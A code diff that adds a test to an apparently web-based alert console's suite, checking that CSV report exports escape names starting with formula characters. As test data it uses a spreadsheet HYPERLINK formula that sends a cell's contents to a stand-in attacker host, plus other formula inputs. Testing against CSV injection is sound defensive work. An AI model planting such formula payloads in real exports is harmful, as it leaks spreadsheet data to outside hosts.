@@ -177,6 +177,18 @@ def test_heartbeats_and_reports_with_their_csv(redis_url):
         assert client.get("/console/reports?from=yesterday").status_code == 400
 
 
+def test_the_csv_report_keeps_a_ci_named_like_a_formula_as_text(redis_url):
+    """CSV injection (OWASP): a CI's name comes from an alert's labels; a spreadsheet would run
+    one that starts with = + - @ as a formula."""
+    with client_for(redis_url) as client:
+        for name in ('=HYPERLINK("http://evil.example/?"&A1,"open")', "@SUM(1+1)", "-2+3", "web1"):
+            new_ticket(client, host="x", ci=name)
+        sign_in(client, VIEWER_SECRET)
+        csv = client.get("/console/reports.csv", params={**ALERTS_PERIOD, "by": "ci"}).text
+        keys = {line.split(",")[1] for line in csv.splitlines()[1:] if line.startswith("ci,")}
+        assert {"'@SUM(1+1)", "'-2+3", "web1"} <= keys and any(k.startswith('"\'=HYPERLINK') for k in keys), keys
+
+
 def test_the_language_follows_the_browser_and_the_switch(redis_url):
     with client_for(redis_url) as client:
         sign_in(client, DESK_SECRET)
